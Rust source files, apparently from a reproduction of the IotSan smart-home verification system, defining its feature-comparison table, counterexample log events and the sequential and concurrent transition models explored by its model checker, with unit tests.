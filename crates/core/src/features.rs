//! The feature comparison of Table 1.
//!
//! The paper compares IotSan against SIFT, DeLorean and Soteria along seven
//! feature dimensions.  This module encodes that matrix so the reproduction
//! harness can regenerate the table.

/// The feature dimensions of Table 1, in row order.
pub const FEATURES: [&str; 7] = [
    "Detects physical safety violations",
    "Detects information leakage",
    "Detects violations due to communication/device failures",
    "Detects violations due to misconfiguration problems",
    "Handles complex code beyond IFTTT rules",
    "Performs violation attribution",
    "Accounts for app interactions",
];

/// One system column of Table 1.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SystemFeatures {
    /// System name.
    pub name: &'static str,
    /// Support flag per feature, aligned with [`FEATURES`].
    pub supported: [bool; 7],
}

/// The comparison matrix of Table 1.
pub fn comparison_matrix() -> Vec<SystemFeatures> {
    vec![
        SystemFeatures {
            name: "SIFT",
            supported: [true, false, false, false, false, false, false],
        },
        SystemFeatures {
            name: "DeLorean",
            supported: [true, false, false, false, false, false, true],
        },
        SystemFeatures {
            name: "Soteria",
            supported: [true, false, false, false, true, false, true],
        },
        SystemFeatures { name: "IotSan", supported: [true, true, true, true, true, true, true] },
    ]
}

/// Renders Table 1 as fixed-width text.
pub fn render_table1() -> String {
    let systems = comparison_matrix();
    let mut out = String::new();
    out.push_str(&format!("{:<58}", "Feature"));
    for system in &systems {
        out.push_str(&format!("{:>10}", system.name));
    }
    out.push('\n');
    for (i, feature) in FEATURES.iter().enumerate() {
        out.push_str(&format!("{feature:<58}"));
        for system in &systems {
            out.push_str(&format!("{:>10}", if system.supported[i] { "yes" } else { "-" }));
        }
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iotsan_supports_every_feature() {
        let matrix = comparison_matrix();
        let iotsan = matrix.iter().find(|s| s.name == "IotSan").unwrap();
        assert!(iotsan.supported.iter().all(|s| *s));
    }

    #[test]
    fn other_systems_lack_at_least_one_feature() {
        for system in comparison_matrix() {
            if system.name != "IotSan" {
                assert!(system.supported.iter().any(|s| !*s), "{} claims everything", system.name);
            }
        }
    }

    #[test]
    fn rendered_table_lists_all_rows_and_columns() {
        let text = render_table1();
        for feature in FEATURES {
            assert!(text.contains(feature));
        }
        for name in ["SIFT", "DeLorean", "Soteria", "IotSan"] {
            assert!(text.contains(name));
        }
    }
}
