//! Structured, deferred effect-log events.
//!
//! The interpreter used to `format!` every log line eagerly — handler
//! banners, command echoes, state updates — on *every* explored transition,
//! only for the strings to be cloned into per-frame traces and then thrown
//! away unless a violation fired.  Now the models push [`LogEvent`]s through
//! the checker's [`iotsan_checker::StepLog`], which is **disabled** during
//! search (the event is never even constructed) and enabled only while a
//! counterexample is being materialized by replay.  [`LogEvent::render`]
//! turns an event into the exact line the old formatter produced, stamped
//! with structured provenance (the owning app) that the Output Analyzer
//! consumes directly instead of re-parsing `App.handler:` prefixes.
//!
//! Name-like fields use interned [`Sym`]s where the runtime objects already
//! carry them (event attributes); fields that only exist at render time
//! (runtime-computed message bodies, URLs, command names) are owned strings —
//! constructing them costs nothing on the hot path because a disabled
//! [`iotsan_checker::StepLog`] short-circuits before the constructor runs.

use crate::system::{InstalledSystem, InternalEvent};
use iotsan_checker::LogLine;
use iotsan_devices::{DeviceId, LocationMode};
use iotsan_ir::{Sym, Value};

/// One structured effect of applying an action (see the module docs).
#[derive(Debug, Clone, PartialEq)]
pub enum LogEvent {
    /// A handler started executing for a dispatched event.
    HandlerStart {
        /// Index of the app in [`InstalledSystem::apps`].
        app: u32,
        /// Handler name.
        handler: String,
        /// Interned attribute of the dispatched event.
        attribute: Sym,
        /// Event value.
        value: Value,
    },
    /// `setLocationMode` changed the location mode.
    ModeChange {
        /// The new mode.
        mode: LocationMode,
    },
    /// An SMS was sent.
    SendSms {
        /// Recipient phone number.
        recipient: String,
    },
    /// A push notification was sent.
    SendPush,
    /// An HTTP request was made.
    HttpPost {
        /// Destination URL.
        url: String,
    },
    /// A synthetic `sendEvent` was raised.
    SendEvent {
        /// Interned claimed attribute.
        attribute: Sym,
        /// Claimed value.
        value: Value,
    },
    /// The app unsubscribed from everything.
    Unsubscribe,
    /// A handler was scheduled.
    Schedule {
        /// Scheduled handler name.
        handler: String,
    },
    /// A `log.*` call.
    LogMessage {
        /// Rendered message.
        message: String,
    },
    /// An actuator command was issued.
    Command {
        /// Target device.
        device: DeviceId,
        /// Command name.
        command: String,
        /// True when the command was lost to failure injection.
        lost: bool,
    },
    /// A device attribute changed as the result of a command.
    AttrChange {
        /// The device.
        device: DeviceId,
        /// Attribute name.
        attribute: String,
        /// New value.
        value: Value,
    },
    /// A sensor was offline when its physical event fired.
    SensorOffline {
        /// The sensor.
        device: DeviceId,
        /// Interned attribute.
        attribute: Sym,
        /// The missed value (rendered).
        value: String,
    },
    /// A sensor event fired while actuator communication was down.
    SensorCommDown {
        /// The sensor.
        device: DeviceId,
        /// Interned attribute.
        attribute: Sym,
        /// The observed value (rendered).
        value: String,
    },
    /// A plain physical sensor event was generated.
    GeneratedEvent {
        /// The rendered event value.
        value: String,
    },
    /// The user tapped an app.
    AppTouch {
        /// Index of the app in [`InstalledSystem::apps`].
        app: u32,
    },
    /// A scheduled timer fired.
    TimerFired {
        /// Handler name.
        handler: String,
    },
    /// A location environment event (sunrise/sunset).
    LocationEvent {
        /// Interned event name.
        name: Sym,
    },
    /// The cascade bound cut dispatching short.
    CascadeBound,
    /// The concurrent design dispatched a pending event.
    DispatchPending {
        /// The dispatched event.
        event: InternalEvent,
    },
}

impl LogEvent {
    /// Renders the event into the counterexample log line the old eager
    /// formatter produced, with structured provenance: lines produced by a
    /// handler banner carry the owning app.
    pub fn render(&self, system: &InstalledSystem) -> LogLine {
        let label = |id: &DeviceId| system.device(*id).label.as_str();
        match self {
            LogEvent::HandlerStart { app, handler, attribute, value } => {
                let app_name = &system.apps[*app as usize].name;
                LogLine::owned(
                    app_name.clone(),
                    format!(
                        "{app_name}.{handler}: handling {}={value}",
                        system.attr_name(*attribute)
                    ),
                )
            }
            LogEvent::ModeChange { mode } => {
                LogLine::new(format!("location.mode = {}", mode.name()))
            }
            LogEvent::SendSms { recipient } => LogLine::new(format!("sendSms({recipient})")),
            LogEvent::SendPush => LogLine::new("sendPush"),
            LogEvent::HttpPost { url } => LogLine::new(format!("httpPost({url})")),
            LogEvent::SendEvent { attribute, value } => {
                LogLine::new(format!("sendEvent({}={value})", system.attr_name(*attribute)))
            }
            LogEvent::Unsubscribe => LogLine::new("unsubscribe()"),
            LogEvent::Schedule { handler } => LogLine::new(format!("schedule({handler})")),
            LogEvent::LogMessage { message } => LogLine::new(format!("log: {message}")),
            LogEvent::Command { device, command, lost } => {
                if *lost {
                    LogLine::new(format!("{}.{command}() LOST (failure)", label(device)))
                } else {
                    LogLine::new(format!("{}.{command}()", label(device)))
                }
            }
            LogEvent::AttrChange { device, attribute, value } => {
                LogLine::new(format!("{}.{attribute} = {value}", label(device)))
            }
            LogEvent::SensorOffline { device, attribute, value } => LogLine::new(format!(
                "{} is OFFLINE; event {}={value} missed",
                label(device),
                system.attr_name(*attribute)
            )),
            LogEvent::SensorCommDown { device, attribute, value } => LogLine::new(format!(
                "{}.{} = {value} (actuator communication DOWN)",
                label(device),
                system.attr_name(*attribute)
            )),
            LogEvent::GeneratedEvent { value } => {
                LogLine::new(format!("generatedEvent.evtType = {}", value.replace(' ', "")))
            }
            LogEvent::AppTouch { app } => {
                LogLine::new(format!("app touch: {}", system.apps[*app as usize].name))
            }
            LogEvent::TimerFired { handler } => LogLine::new(format!("timer fired: {handler}")),
            LogEvent::LocationEvent { name } => {
                LogLine::new(format!("location event: {}", system.attr_name(*name)))
            }
            LogEvent::CascadeBound => {
                LogLine::new("cascade bound reached; remaining events dropped")
            }
            LogEvent::DispatchPending { event } => {
                LogLine::new(format!("dispatch {}", system.render_internal_event(event)))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_config::{DeviceConfig, SystemConfig};
    use iotsan_ir::IrApp;

    fn system() -> InstalledSystem {
        let app = IrApp {
            name: "Test App".into(),
            description: String::new(),
            inputs: vec![],
            handlers: vec![],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let config =
            SystemConfig::new().with_device(DeviceConfig::new("doorLock", "lock", "main door"));
        InstalledSystem::new(vec![app], config)
    }

    #[test]
    fn handler_start_carries_owner() {
        let sys = system();
        let line = LogEvent::HandlerStart {
            app: 0,
            handler: "onEvent".into(),
            attribute: sys.sym_of("lock"),
            value: Value::Str("unlocked".into()),
        }
        .render(&sys);
        assert_eq!(line.owner.as_deref(), Some("Test App"));
        assert_eq!(line.text, "Test App.onEvent: handling lock=unlocked");
    }

    #[test]
    fn device_lines_render_like_the_old_formatter() {
        let sys = system();
        let cmd = LogEvent::Command { device: DeviceId(0), command: "unlock".into(), lost: false }
            .render(&sys);
        assert_eq!(cmd.text, "doorLock.unlock()");
        assert_eq!(cmd.owner, None);
        let lost = LogEvent::Command { device: DeviceId(0), command: "unlock".into(), lost: true }
            .render(&sys);
        assert_eq!(lost.text, "doorLock.unlock() LOST (failure)");
        let change = LogEvent::AttrChange {
            device: DeviceId(0),
            attribute: "lock".into(),
            value: Value::Str("unlocked".into()),
        }
        .render(&sys);
        assert_eq!(change.text, "doorLock.lock = unlocked");
        let mode = LogEvent::ModeChange { mode: LocationMode::Away }.render(&sys);
        assert_eq!(mode.text, "location.mode = Away");
        let generated = LogEvent::GeneratedEvent { value: "not present".into() }.render(&sys);
        assert_eq!(generated.text, "generatedEvent.evtType = notpresent");
    }
}
