//! The Model Generator (§8): builds transition systems the checker explores.
//!
//! [`SequentialModel`] implements Algorithm 1's sequential design: each
//! transition is one external physical event (plus an optional injected
//! failure), and the entire cascade of handler executions and internal events
//! it triggers is dispatched atomically within that transition.  This is the
//! "weak concurrency" the paper adopts because it discovered all violations
//! the strict model found at a fraction of the cost (Table 7b).
//!
//! [`ConcurrentModel`] implements the strict-concurrency design used for the
//! comparison: external events only *enqueue* cyber events, and the order in
//! which pending events are dispatched is itself a non-deterministic choice,
//! so the checker explores all interleavings of internal and external events.
//!
//! # Hot-loop discipline
//!
//! Actions are small `Copy` values — device ids, attribute positions and
//! interned [`Sym`]s, never owned strings — because the checker clones one
//! into its counterexample arena for every admitted state.  `apply` threads a
//! reusable [`ModelScratch`] (observation buffers, the cascade queue, the
//! snapshot the property checker reads) and a deferred
//! [`StepLog`], so a steady-state transition on a non-violating
//! path performs no heap allocation beyond constructing its successor state.
//! Log lines and action strings are rendered only for materialized
//! counterexamples ([`TransitionSystem::display_action`] /
//! [`TransitionSystem::render_event`]).

use crate::interp::{run_handler, DispatchedEvent};
use crate::logevent::LogEvent;
use crate::system::{InstalledSystem, InternalEvent, SystemState};
use iotsan_checker::{LogLine, StepLog, StepOutcome, TransitionSystem, Violation};
use iotsan_devices::{DeviceId, FailureMode, FailurePolicy};
use iotsan_ir::{Sym, Trigger, Value};
use iotsan_properties::{
    CompiledPropertySet, EvalScratch, PropertyId, PropertySet, Snapshot, StepObservation,
};

/// Options controlling model construction.
#[derive(Debug, Clone, PartialEq)]
pub struct ModelOptions {
    /// Maximum number of external events (the verification depth bound).
    pub max_events: usize,
    /// Which device/communication failures to inject.
    pub failure_policy: FailurePolicy,
    /// Upper bound on the number of internal events dispatched per external
    /// event (guards against event cycles between apps).
    pub max_cascade: usize,
}

impl Default for ModelOptions {
    fn default() -> Self {
        ModelOptions { max_events: 3, failure_policy: FailurePolicy::None, max_cascade: 32 }
    }
}

impl ModelOptions {
    /// A model exploring up to `max_events` external events.
    pub fn with_events(max_events: usize) -> Self {
        ModelOptions { max_events, ..Default::default() }
    }

    /// Enables exhaustive failure injection.
    pub fn with_failures(mut self) -> Self {
        self.failure_policy = FailurePolicy::Exhaustive;
        self
    }
}

/// One external event choice (the checker's action alphabet).
///
/// Deliberately `Copy` and string-free: display names are resolved through
/// the [`InstalledSystem`] only when a counterexample is rendered.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ExternalAction {
    /// The physical environment changes a sensor attribute.
    SensorEvent {
        /// The sensor device.
        device: DeviceId,
        /// Interned attribute name.
        attribute: Sym,
        /// Position of the attribute in the device spec.
        attr_index: u8,
        /// The index of the new value in the attribute's domain.
        value_index: u8,
        /// The injected failure mode for this step.
        failure: FailureMode,
    },
    /// The user taps an app in the companion app.
    AppTouch {
        /// Index of the app.
        app: u32,
    },
    /// A scheduled timer fires for a specific handler.
    TimerFire {
        /// Index of the app.
        app: u32,
        /// Index of the handler within the app.
        handler: u32,
    },
    /// A location environment event (sunrise / sunset).
    LocationEvent {
        /// Interned event name.
        name: Sym,
    },
}

/// Reusable per-worker scratch for [`SequentialModel::apply`] /
/// [`ConcurrentModel::apply`]: step observation buffers, the cascade queue
/// and the physical-state snapshot the property checker reads.  All of it is
/// cleared (never reallocated) per transition.
#[derive(Debug, Default)]
pub struct ModelScratch {
    observation: StepObservation,
    queue: Vec<InternalEvent>,
    snapshot: Snapshot,
    eval: EvalScratch,
    violated: Vec<PropertyId>,
}

/// Shared model core used by both designs.
#[derive(Debug, Clone)]
struct ModelCore {
    system: InstalledSystem,
    /// The registry (names, classes — counterexample metadata).
    properties: PropertySet,
    /// The registry compiled against `system` at model-construction time:
    /// selectors resolved to snapshot slots, formulas flattened to programs
    /// over a deduplicated atom table (see `iotsan-properties::compile`).
    compiled: CompiledPropertySet,
    options: ModelOptions,
}

impl ModelCore {
    fn new(system: InstalledSystem, properties: PropertySet, options: ModelOptions) -> Self {
        let compiled = system.compile_properties(&properties);
        ModelCore { system, properties, compiled, options }
    }

    /// The initial state, with one zeroed leads-to monitor slot per compiled
    /// bounded-response property.
    fn initial_state(&self) -> SystemState {
        let mut state = self.system.initial_state();
        state.monitors = vec![0; self.compiled.monitor_count()];
        state
    }
}

impl ModelCore {
    /// External actions available when fewer than `max_events` have happened,
    /// written into the caller's reused buffer.
    fn external_actions(&self, state: &SystemState, out: &mut Vec<ExternalAction>) {
        out.clear();
        if state.external_events >= self.options.max_events {
            return;
        }
        for device in &self.system.devices {
            if !device.is_sensor() {
                continue;
            }
            let spec = device.spec();
            for (attr_index, attr) in spec.attributes.iter().enumerate() {
                if !attr.environment_driven {
                    continue;
                }
                let attribute = self.system.device_attr_sym(device.id, attr_index);
                for value_index in 0..attr.domain.len() {
                    // Skip events that would not change the sensor state
                    // (Algorithm 1 only acts when evt != current state).
                    if state.devices[device.id.0 as usize].raw(attr_index)
                        == Some(value_index as u8)
                    {
                        continue;
                    }
                    for failure in self.options.failure_policy.modes_for(device.id) {
                        out.push(ExternalAction::SensorEvent {
                            device: device.id,
                            attribute,
                            attr_index: attr_index as u8,
                            value_index: value_index as u8,
                            failure: *failure,
                        });
                    }
                }
            }
        }
        for (app_index, app) in self.system.apps.iter().enumerate() {
            if app.handlers.iter().any(|h| matches!(h.trigger, Trigger::AppTouch)) {
                out.push(ExternalAction::AppTouch { app: app_index as u32 });
            }
            for (handler_index, handler) in app.handlers.iter().enumerate() {
                if matches!(handler.trigger, Trigger::Timer { .. }) {
                    out.push(ExternalAction::TimerFire {
                        app: app_index as u32,
                        handler: handler_index as u32,
                    });
                }
            }
            for handler in &app.handlers {
                if let Trigger::LocationEvent { name } = &handler.trigger {
                    let action = ExternalAction::LocationEvent { name: self.system.sym_of(name) };
                    if !out.contains(&action) {
                        out.push(action);
                    }
                }
            }
        }
    }

    /// The domain value of a sensor attribute as a [`Value`] (numeric domain
    /// levels become integers, enum names numbers-or-strings — the same
    /// parse the old string path applied).
    fn domain_value(
        spec: &iotsan_devices::DeviceSpec,
        attr_index: usize,
        value_index: usize,
    ) -> Value {
        let attr = &spec.attributes[attr_index];
        match attr.domain.numeric_at(value_index) {
            Some(n) => Value::Int(n),
            None => match attr.domain.value_at(value_index) {
                Some(text) => parse_value(&text),
                None => Value::Null,
            },
        }
    }

    /// Applies the external action to `state`, appending the initial internal
    /// events to dispatch to `events`, and updating the observation.
    fn apply_external(
        &self,
        state: &mut SystemState,
        action: &ExternalAction,
        observation: &mut StepObservation,
        events: &mut Vec<InternalEvent>,
        log: &mut StepLog<LogEvent>,
    ) {
        state.external_events += 1;
        state.time.tick();
        match *action {
            ExternalAction::SensorEvent { device, attribute, attr_index, value_index, failure } => {
                let spec = self.system.device(device).spec();
                let attr_index = attr_index as usize;
                let value_index = value_index as usize;
                match failure {
                    FailureMode::DeviceOffline => {
                        state.devices[device.0 as usize].set_online(false);
                        log.push(|| LogEvent::SensorOffline {
                            device,
                            attribute,
                            value: spec.attributes[attr_index]
                                .domain
                                .value_at(value_index)
                                .unwrap_or_default(),
                        });
                    }
                    FailureMode::CommunicationLost => {
                        // Communication between the hub/cloud and the devices
                        // is down (e.g. jamming): the sensor reading is still
                        // observed, but commands sent to actuators during this
                        // step are lost — see `inject_command_failure` below.
                        let changed = state.devices[device.0 as usize].set_index_at(
                            spec,
                            attr_index,
                            value_index,
                        );
                        log.push(|| LogEvent::SensorCommDown {
                            device,
                            attribute,
                            value: spec.attributes[attr_index]
                                .domain
                                .value_at(value_index)
                                .unwrap_or_default(),
                        });
                        if changed {
                            events.push(InternalEvent {
                                device: Some(device),
                                attribute,
                                value: Self::domain_value(spec, attr_index, value_index),
                                physical: true,
                            });
                        }
                    }
                    FailureMode::None => {
                        let changed = state.devices[device.0 as usize].set_index_at(
                            spec,
                            attr_index,
                            value_index,
                        );
                        log.push(|| LogEvent::GeneratedEvent {
                            value: spec.attributes[attr_index]
                                .domain
                                .value_at(value_index)
                                .unwrap_or_default(),
                        });
                        if changed {
                            events.push(InternalEvent {
                                device: Some(device),
                                attribute,
                                value: Self::domain_value(spec, attr_index, value_index),
                                physical: true,
                            });
                        }
                    }
                }
            }
            ExternalAction::AppTouch { app } => {
                log.push(|| LogEvent::AppTouch { app });
                let touch = DispatchedEvent {
                    device: None,
                    attribute: self.system.touch_sym(),
                    value: Value::Str("touched".into()),
                };
                let app_index = app as usize;
                for handler_index in 0..self.system.apps[app_index].handlers.len() {
                    let handler = &self.system.apps[app_index].handlers[handler_index];
                    if !matches!(handler.trigger, Trigger::AppTouch) {
                        continue;
                    }
                    run_handler(
                        &self.system,
                        app_index,
                        handler,
                        &touch,
                        state,
                        observation,
                        false,
                        events,
                        log,
                    );
                }
            }
            ExternalAction::TimerFire { app, handler } => {
                let app_index = app as usize;
                let handler = &self.system.apps[app_index].handlers[handler as usize];
                log.push(|| LogEvent::TimerFired { handler: handler.name.clone() });
                let tick = DispatchedEvent {
                    device: None,
                    attribute: self.system.time_sym(),
                    value: Value::Int(state.time.seconds() as i64),
                };
                if matches!(handler.trigger, Trigger::Timer { .. }) {
                    run_handler(
                        &self.system,
                        app_index,
                        handler,
                        &tick,
                        state,
                        observation,
                        false,
                        events,
                        log,
                    );
                }
            }
            ExternalAction::LocationEvent { name } => {
                log.push(|| LogEvent::LocationEvent { name });
                events.push(InternalEvent {
                    device: None,
                    attribute: name,
                    value: Value::Str(self.system.attr_name(name).to_string()),
                    physical: true,
                });
            }
        }
    }

    /// True when `handler` of `app_index` subscribes to `event`.
    fn subscribes(
        &self,
        app_index: usize,
        handler: &iotsan_ir::IrHandler,
        event: &InternalEvent,
    ) -> bool {
        let event_attribute = self.system.attr_name(event.attribute);
        match &handler.trigger {
            Trigger::Device { input, attribute, value } => {
                if attribute != event_attribute {
                    return false;
                }
                if let Some(expected) = value {
                    if !event.value.eq_str(expected) {
                        return false;
                    }
                }
                match event.device {
                    Some(device) => self.system.bound_slice(app_index, input).contains(&device),
                    // A device-less event (e.g. a fake `sendEvent`) reaches any
                    // subscriber of that attribute.
                    None => true,
                }
            }
            Trigger::LocationMode { value } => {
                event_attribute == "mode"
                    && value.as_ref().map(|v| event.value.eq_str(v)).unwrap_or(true)
            }
            Trigger::LocationEvent { name } => event_attribute == *name,
            Trigger::AppTouch | Trigger::Timer { .. } => false,
        }
    }

    /// Dispatches one event to every subscribed handler (Algorithm 1's
    /// `dispatch_event`), appending newly generated events to `events`.
    fn dispatch_one(
        &self,
        state: &mut SystemState,
        event: &InternalEvent,
        observation: &mut StepObservation,
        events: &mut Vec<InternalEvent>,
        log: &mut StepLog<LogEvent>,
        commands_fail: bool,
    ) {
        let dispatched = DispatchedEvent::from_internal(event);
        for app_index in 0..self.system.apps.len() {
            for handler_index in 0..self.system.apps[app_index].handlers.len() {
                let handler = &self.system.apps[app_index].handlers[handler_index];
                if !self.subscribes(app_index, handler, event) {
                    continue;
                }
                run_handler(
                    &self.system,
                    app_index,
                    handler,
                    &dispatched,
                    state,
                    observation,
                    commands_fail,
                    events,
                    log,
                );
            }
        }
    }

    /// Dispatches a whole cascade to quiescence (sequential design).  `queue`
    /// already holds the initial events; newly generated events are appended
    /// and consumed in FIFO order through a cursor (no per-event shifting or
    /// queue reallocation across transitions).
    fn dispatch_cascade(
        &self,
        state: &mut SystemState,
        queue: &mut Vec<InternalEvent>,
        observation: &mut StepObservation,
        log: &mut StepLog<LogEvent>,
        commands_fail: bool,
    ) {
        let mut cursor = 0usize;
        while cursor < queue.len() {
            if cursor >= self.options.max_cascade {
                log.push(|| LogEvent::CascadeBound);
                break;
            }
            // Take the event out without shifting the queue; the placeholder
            // is never dispatched (the cursor moves past it).
            let event = std::mem::replace(
                &mut queue[cursor],
                InternalEvent {
                    device: None,
                    attribute: Sym(0),
                    value: Value::Null,
                    physical: false,
                },
            );
            cursor += 1;
            self.dispatch_one(state, &event, observation, queue, log, commands_fail);
        }
    }

    /// True when the action models a hub ↔ actuator communication failure, in
    /// which case every command sent while handling it is lost.
    fn commands_fail(action: &ExternalAction) -> bool {
        matches!(
            action,
            ExternalAction::SensorEvent { failure: FailureMode::CommunicationLost, .. }
        )
    }

    /// Evaluates all compiled properties after a step, refreshing the
    /// scratch snapshot in place and updating the state's leads-to monitors.
    fn check(&self, state: &mut SystemState, scratch: &mut ModelScratch) -> Vec<Violation> {
        let ModelScratch { observation, snapshot, eval, violated, .. } = scratch;
        self.system.snapshot_into(state, snapshot);
        violated.clear();
        self.compiled.check_transition(snapshot, observation, &mut state.monitors, eval, violated);
        self.to_violations(violated)
    }

    /// Evaluates only the step-only compiled properties (the strict
    /// concurrency design's non-quiescent steps).
    fn check_step_only(
        &self,
        state: &mut SystemState,
        scratch: &mut ModelScratch,
    ) -> Vec<Violation> {
        let ModelScratch { observation, eval, violated, .. } = scratch;
        violated.clear();
        self.compiled.check_step_only(observation, &mut state.monitors, eval, violated);
        self.to_violations(violated)
    }

    /// Maps violated property ids to [`Violation`]s (sorted, deduplicated).
    /// Allocates only when there are violations to report.
    fn to_violations(&self, violated: &mut Vec<PropertyId>) -> Vec<Violation> {
        violated.sort();
        violated.dedup();
        violated
            .iter()
            .filter_map(|id| {
                self.properties
                    .get(*id)
                    .map(|p| Violation { property: id.0, description: p.name.clone() })
            })
            .collect()
    }

    /// Prepares the scratch for one transition: clears the step buffers and
    /// re-syncs the configured SMS recipients (without reallocating when they
    /// are unchanged, which is always after the first transition).
    fn reset_scratch(&self, scratch: &mut ModelScratch) {
        scratch.observation.reset();
        scratch.queue.clear();
        if scratch.observation.configured_recipients != self.system.config.phone_numbers {
            scratch.observation.configured_recipients.clone_from(&self.system.config.phone_numbers);
        }
    }

    /// Renders an action for counterexample traces.
    fn display_action(&self, action: &ExternalAction) -> String {
        match *action {
            ExternalAction::SensorEvent { device, attribute, attr_index, value_index, failure } => {
                let dev = self.system.device(device);
                let value = dev
                    .spec()
                    .attributes
                    .get(attr_index as usize)
                    .and_then(|a| a.domain.value_at(value_index as usize))
                    .unwrap_or_default();
                format!("{}/{}={value} [{failure}]", dev.label, self.system.attr_name(attribute))
            }
            ExternalAction::AppTouch { app } => {
                format!("app/touch -> {}", self.system.apps[app as usize].name)
            }
            ExternalAction::TimerFire { app, handler } => {
                format!(
                    "timer -> {}",
                    self.system.apps[app as usize].handlers[handler as usize].name
                )
            }
            ExternalAction::LocationEvent { name } => {
                format!("location/{}", self.system.attr_name(name))
            }
        }
    }
}

fn parse_value(text: &str) -> Value {
    if let Ok(i) = text.parse::<i64>() {
        Value::Int(i)
    } else if let Ok(d) = text.parse::<f64>() {
        Value::Decimal(d)
    } else {
        Value::Str(text.to_string())
    }
}

/// The sequential-design transition system (the paper's preferred model).
#[derive(Debug, Clone)]
pub struct SequentialModel {
    core: ModelCore,
}

impl SequentialModel {
    /// Builds a sequential model, compiling `properties` against the
    /// installed system.
    pub fn new(system: InstalledSystem, properties: PropertySet, options: ModelOptions) -> Self {
        SequentialModel { core: ModelCore::new(system, properties, options) }
    }

    /// The compiled property set the model evaluates per transition.
    pub fn compiled_properties(&self) -> &CompiledPropertySet {
        &self.core.compiled
    }

    /// The installed system under verification.
    pub fn system(&self) -> &InstalledSystem {
        &self.core.system
    }

    /// The options the model was built with.
    pub fn options(&self) -> &ModelOptions {
        &self.core.options
    }
}

impl TransitionSystem for SequentialModel {
    type State = SystemState;
    type Action = ExternalAction;
    type Event = LogEvent;
    type Scratch = ModelScratch;

    fn initial_state(&self) -> SystemState {
        self.core.initial_state()
    }

    fn actions(&self, state: &SystemState, out: &mut Vec<ExternalAction>) {
        self.core.external_actions(state, out);
    }

    fn apply(
        &self,
        state: &SystemState,
        action: &ExternalAction,
        scratch: &mut ModelScratch,
        log: &mut StepLog<LogEvent>,
    ) -> StepOutcome<SystemState> {
        let mut next = state.clone();
        self.core.reset_scratch(scratch);
        let commands_fail = ModelCore::commands_fail(action);
        self.core.apply_external(
            &mut next,
            action,
            &mut scratch.observation,
            &mut scratch.queue,
            log,
        );
        self.core.dispatch_cascade(
            &mut next,
            &mut scratch.queue,
            &mut scratch.observation,
            log,
            commands_fail,
        );
        let violations = self.core.check(&mut next, scratch);
        StepOutcome { state: next, violations }
    }

    fn encode(&self, state: &SystemState, out: &mut Vec<u8>) {
        state.encode_into(out);
    }

    fn display_action(&self, action: &ExternalAction) -> String {
        self.core.display_action(action)
    }

    fn render_event(&self, event: &LogEvent) -> LogLine {
        event.render(&self.core.system)
    }
}

/// One step of the strict-concurrency design: either generate an external
/// event (which only enqueues its cyber event) or dispatch one pending event.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ConcurrentAction {
    /// Generate an external event.
    External(ExternalAction),
    /// Dispatch the pending event at the given queue index.
    Dispatch {
        /// Index into the pending-event queue.
        index: u32,
    },
}

/// The strict-concurrency transition system (used for the Table 7b
/// comparison; interleavings of internal and external events are explored).
#[derive(Debug, Clone)]
pub struct ConcurrentModel {
    core: ModelCore,
}

impl ConcurrentModel {
    /// Builds a concurrent model, compiling `properties` against the
    /// installed system.
    pub fn new(system: InstalledSystem, properties: PropertySet, options: ModelOptions) -> Self {
        ConcurrentModel { core: ModelCore::new(system, properties, options) }
    }

    /// A search depth sufficient to drain every cascade the model can create.
    pub fn suggested_depth(&self) -> usize {
        self.core.options.max_events * (self.core.options.max_cascade + 1)
    }
}

impl TransitionSystem for ConcurrentModel {
    type State = SystemState;
    type Action = ConcurrentAction;
    type Event = LogEvent;
    type Scratch = ModelScratch;

    fn initial_state(&self) -> SystemState {
        self.core.initial_state()
    }

    fn actions(&self, state: &SystemState, out: &mut Vec<ConcurrentAction>) {
        out.clear();
        // The concurrent design is the comparison model, not the hot path, so
        // a per-expansion buffer for the external enumeration is acceptable.
        let mut externals = Vec::new();
        self.core.external_actions(state, &mut externals);
        out.extend(externals.into_iter().map(ConcurrentAction::External));
        for index in 0..state.pending.len() {
            out.push(ConcurrentAction::Dispatch { index: index as u32 });
        }
    }

    fn apply(
        &self,
        state: &SystemState,
        action: &ConcurrentAction,
        scratch: &mut ModelScratch,
        log: &mut StepLog<LogEvent>,
    ) -> StepOutcome<SystemState> {
        let mut next = state.clone();
        self.core.reset_scratch(scratch);
        match *action {
            ConcurrentAction::External(external) => {
                self.core.apply_external(
                    &mut next,
                    &external,
                    &mut scratch.observation,
                    &mut scratch.queue,
                    log,
                );
                next.pending.append(&mut scratch.queue);
            }
            ConcurrentAction::Dispatch { index } => {
                let index = index as usize;
                if index < next.pending.len() {
                    let event = next.pending.remove(index);
                    log.push(|| LogEvent::DispatchPending { event: event.clone() });
                    if next.pending.len() < self.core.options.max_cascade {
                        self.core.dispatch_one(
                            &mut next,
                            &event,
                            &mut scratch.observation,
                            &mut scratch.queue,
                            log,
                            false,
                        );
                        next.pending.append(&mut scratch.queue);
                    }
                }
            }
        }
        // Physical-state invariants are evaluated at quiescent points (no
        // events pending), so the strict-concurrent design checks the same
        // observable states as the sequential one; step-level observations
        // (conflicting commands, leakage) are checked on every action.
        let violations = if next.pending.is_empty() {
            self.core.check(&mut next, scratch)
        } else {
            self.core.check_step_only(&mut next, scratch)
        };
        StepOutcome { state: next, violations }
    }

    fn encode(&self, state: &SystemState, out: &mut Vec<u8>) {
        state.encode_into(out);
        out.push(state.external_events as u8);
    }

    fn display_action(&self, action: &ConcurrentAction) -> String {
        match action {
            ConcurrentAction::External(a) => self.core.display_action(a),
            ConcurrentAction::Dispatch { index } => format!("dispatch pending[{index}]"),
        }
    }

    fn render_event(&self, event: &LogEvent) -> LogLine {
        event.render(&self.core.system)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_checker::{Checker, SearchConfig};
    use iotsan_config::{AppConfig, Binding, DeviceConfig, SystemConfig};
    use iotsan_groovy::SmartApp;
    use iotsan_ir::lower_app;

    /// Auto Mode Change + Unlock Door — the running example of the paper
    /// (Figure 7): leaving home switches the mode to Away, which unlocks the
    /// front door, violating "the main door should be locked when no one is
    /// at home".
    fn unlock_door_system() -> InstalledSystem {
        let auto_mode = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "a", description: "Change mode on presence")
preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
